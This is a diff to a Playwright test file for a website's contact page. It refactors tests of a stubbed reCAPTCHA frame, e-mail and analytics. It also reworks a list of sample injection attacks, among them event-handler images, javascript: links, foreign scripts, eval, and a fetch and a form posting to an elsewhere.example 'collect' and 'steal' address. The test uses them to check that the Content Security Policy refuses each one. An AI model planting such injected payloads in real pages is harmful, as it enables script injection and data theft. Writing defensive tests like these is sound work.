@@ -6,15 +6,14 @@ import { botCheckSecondStage } from './bot-check-stand-in';
 import { firstTourPath } from './content';
 import {
   ANALYTICS,
-  analyticsEvents,
   atRest,
   BOT_CHECK_SECOND_STAGE,
   expect,
-  fillIn,
+  expectEvent,
+  expectSuccess,
   openReady,
-  SENT,
   script,
-  sendButton,
+  sendEnquiry,
   test,
 } from './fixtures';
 
@@ -70,15 +69,13 @@ test('the bot check with its frame, the e-mail and the analytics work under the 
     route.fulfill({ contentType: 'text/html', body: '<p>I am the frame</p>' }),
   );
   await page.route(`${collect}**`, (route) => route.fulfill({ status: 204 }));
-  await page.route('https://www.google.com/recaptcha/api2/clr', (route) =>
-    route.fulfill({ body: 'OK', headers: { 'Access-Control-Allow-Origin': '*' } }),
+  await page.route('https://www.google.com/recaptcha/api2/clr', (route) => route.fulfill(script('')));
+  const framed = botCheckSecondStage().replace(
+    '<iframe hidden>',
+    `<iframe title="bot check" src="${frame}">`,
   );
   await page.route(BOT_CHECK_SECOND_STAGE, (route) =>
-    route.fulfill(
-      script(
-        `${botCheckSecondStage().replace('<iframe hidden>', `<iframe title="bot check" src="${frame}">`)}; fetch('https://www.google.com/recaptcha/api2/clr')`,
-      ),
-    ),
+    route.fulfill(script(`${framed}; fetch('https://www.google.com/recaptcha/api2/clr')`)),
   );
   await page.route(ANALYTICS, (route) =>
     route.fulfill(script(`navigator.sendBeacon('${collect}'); new Image().src = '${collect}&pixel'`)),
@@ -89,14 +86,12 @@ test('the bot check with its frame, the e-mail and the analytics work under the 
   await followLink(page, '/contact');
   await expect(page.getByText('protected by reCAPTCHA')).toHaveCSS('position', 'fixed');
   await expect(page.frameLocator('iframe[title="bot check"]').getByText('I am the frame')).toBeAttached();
-  await fillIn(page);
-  await sendButton(page).click();
-  await expect(page.getByText(SENT)).toBeVisible();
+  await sendEnquiry(page);
+  await expectSuccess(page);
   expect(emailCalls).toHaveLength(1);
 
-  await expect
-    .poll(async () => (await analyticsEvents(page)).map(({ name }) => name))
-    .toEqual(expect.arrayContaining(['page_view', 'enquiry_success']));
+  for (const name of ['page_view', 'enquiry_success'])
+    await expectEvent(page, expect.objectContaining({ name }));
   const layer = await page.evaluate(() =>
     (window.dataLayer ?? []).map((entry) => [...(entry as ArrayLike<unknown> & Iterable<unknown>)][0]),
   );
@@ -104,10 +99,8 @@ test('the bot check with its frame, the e-mail and the analytics work under the 
   expect(requests).toEqual(expect.arrayContaining([collect, `${collect}&pixel`]));
 });
 
-type Attack = [name: string, refusal: string, attack: string | (() => void)];
-
 /** Attacks with injected HTML or script, and what refuses each. An attack sets `ran` if it succeeds. */
-const attacks: readonly Attack[] = [
+const attacks: readonly [name: string, refusal: string, attack: string | (() => void)][] = [
   ['an event-handler attribute', 'script-src-attr inline', '<img src="data:," onerror="window.ran = true">'],
   ['a foreign picture', `img-src ${elsewhere}/p.gif`, `<img src="${elsewhere}/p.gif">`],
   [
@@ -117,59 +110,35 @@ const attacks: readonly Attack[] = [
   ],
   ['a foreign frame', `frame-src ${elsewhere}`, `<iframe src="${elsewhere}/"></iframe>`],
   ['another base for every address', `base-uri ${elsewhere}/`, `<base href="${elsewhere}/">`],
-  [
-    'an injected inline script',
-    'script-src-elem inline',
-    () => {
-      const script = document.createElement('script');
-      script.textContent = 'window.ran = true';
-      document.body.append(script);
-    },
-  ],
-  [
-    'an address that is a script',
-    'script-src-elem inline',
-    () => {
-      const trap = document.createElement('a');
-      trap.href = 'javascript:window.ran=true';
-      document.body.append(trap);
-      trap.click();
-    },
-  ],
+  ['an injected inline script', 'script-src-elem inline', '<script>window.ran = true</script>'],
+  ['a foreign script', `script-src-elem ${elsewhere}/x.js`, `<script src="${elsewhere}/x.js"></script>`],
+  ['an address that is a script', 'script-src-elem inline', '<a href="javascript:window.ran=true">Press</a>'],
   ['words that become a script', 'script-src eval', () => void setTimeout('window.ran = true')],
   [
-    'a foreign script',
-    'script-src-elem https://elsewhere.example/x.js',
-    () => {
-      const script = document.createElement('script');
-      script.src = 'https://elsewhere.example/x.js';
-      document.body.append(script);
-    },
-  ],
-  [
     'a foreign request',
-    'connect-src https://elsewhere.example/collect',
+    `connect-src ${elsewhere}/collect`,
     () => void fetch('https://elsewhere.example/collect', { method: 'POST', body: 'words' }).catch(() => {}),
   ],
   [
     'a form posted elsewhere',
-    'form-action https://elsewhere.example/steal',
-    () => {
-      const form = document.createElement('form');
-      form.method = 'post';
-      form.action = 'https://elsewhere.example/steal';
-      document.body.append(form);
-      form.submit();
-    },
+    `form-action ${elsewhere}/steal`,
+    `<form method="post" action="${elsewhere}/steal"><button>Send</button></form>`,
   ],
 ];
+
+/** Adds HTML to the page and runs its scripts, then presses its link or button. Runs in the page. */
+function inject(html: string) {
+  const parts = document.createRange().createContextualFragment(html);
+  const control = parts.querySelector<HTMLElement>('a, button');
+  document.body.append(parts);
+  control?.click();
+}
 
 test('another site may show the picture of a link preview', async ({ page, baseURL }) => {
   const text = `<img src="${baseURL}${sharePath('/')}" alt="preview">`;
   // Another port is another site.
-  const { url, close } = await serveFolder(process.env.SITE_OUT || 'out', {
-    port: 0,
-    handlers: [(_, response) => !!response.writeHead(200, { 'Content-Type': 'text/html' }).end(text)],
+  const { url, close } = await serveFolder(process.env.SITE_OUT || 'out', 0, {
+    '': (_, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(text),
   });
   try {
     await page.goto(url);
@@ -179,8 +148,9 @@ test('another site may show the picture of a link preview', async ({ page, baseU
   }
 });
 
-/** Records everything that the policy of a page refuses, as 'directive address'. */
-async function recordRefusals(page: Page): Promise<string[]> {
+test('an injected script is refused', async ({ page, allowedMessages }) => {
+  allowedMessages.push(/Content Security Policy/i, /net::ERR_BLOCKED_BY_CSP/);
+  /** Everything that the policy refuses, as 'directive address'. */
   const refused: string[] = [];
   await page.exposeFunction('reportRefusal', (refusal: string) => refused.push(refusal));
   await page.addInitScript(() => {
@@ -190,19 +160,13 @@ async function recordRefusals(page: Page): Promise<string[]> {
       ),
     );
   });
-  return refused;
-}
-
-test('an injected script is refused', async ({ page, allowedMessages }) => {
-  allowedMessages.push(/Content Security Policy/i, /net::ERR_BLOCKED_BY_CSP/);
-  const refused = await recordRefusals(page);
+  await page.goto('/contact');
+  const address = page.url();
   for (const [name, refusal, attack] of attacks) {
     await test.step(name, async () => {
       refused.splice(0);
-      await page.goto('/contact');
-      const address = page.url();
       if (typeof attack === 'function') await page.evaluate(attack);
-      else await page.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), attack);
+      else await page.evaluate(inject, attack);
       await expect.poll(() => refused).toContain(refusal);
       expect(await page.evaluate(() => 'ran' in window)).toBe(false);
       expect(page.url()).toBe(address);
